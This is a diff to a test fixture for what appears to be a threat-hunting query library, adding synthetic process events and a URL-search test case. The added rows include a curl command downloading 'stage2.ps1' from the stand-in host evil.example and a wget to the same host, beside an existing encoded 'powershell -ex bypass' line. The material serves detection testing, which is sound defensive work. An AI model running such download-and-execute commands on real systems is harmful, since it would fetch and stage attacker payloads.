@@ -150,6 +150,9 @@ PROCESS = [
     proc("p12", at(5, 2), "WS03", "powershell -ex bypass -e JABzAD0A", TargetProcessName="powershell.exe"),
     proc("p13", at(6, 0), "WS03", "notepad 5000done", TargetProcessName="notepad.exe"),
     proc("p14", at(7, 0), "WS01", "cmd /c exit", TargetProcessName="cmd.exe"),  # at RANGE end: excluded
+    proc("p15", at(3, 7), "WS09", "curl -o s.ps1 HTTP://Evil.example/stage2.ps1", TargetProcessName="curl.exe"),
+    proc("p16", at(3, 8), "WS09", "wget evil.example/other", TargetProcessName="wget.exe"),
+    proc("p17", at(3, 9), "WS09", "ping evil.example", TargetProcessName="ping.exe"),  # the host, no path
 ]
 
 
@@ -371,6 +374,7 @@ ROW_QUERIES: dict[str, tuple[dict[str, Any], list[str]]] = {
     "process.command_line_search": ({"pattern": "0%_d"}, ["p08"]),
     "process.process_children": ({"process_name": "CMD.EXE"}, ["p01", "p05", "p08"]),
     "process.processes_by_hash": ({"file_hash": "aa" * 32}, ["p06"]),
+    "process.url_command_lines": ({"url": "http://evil.example/stage2.ps1"}, ["p15", "p16"]),
     "authentication.account_logons": ({"account_name": "alice"}, ["a01", "a02", "a03", "a04"]),
     "authentication.host_logons": ({"host_name": "ws02.corp.local"}, ["a02"]),
     "authentication.failed_logons": ({"host_name": "WS03"}, ["a03"]),
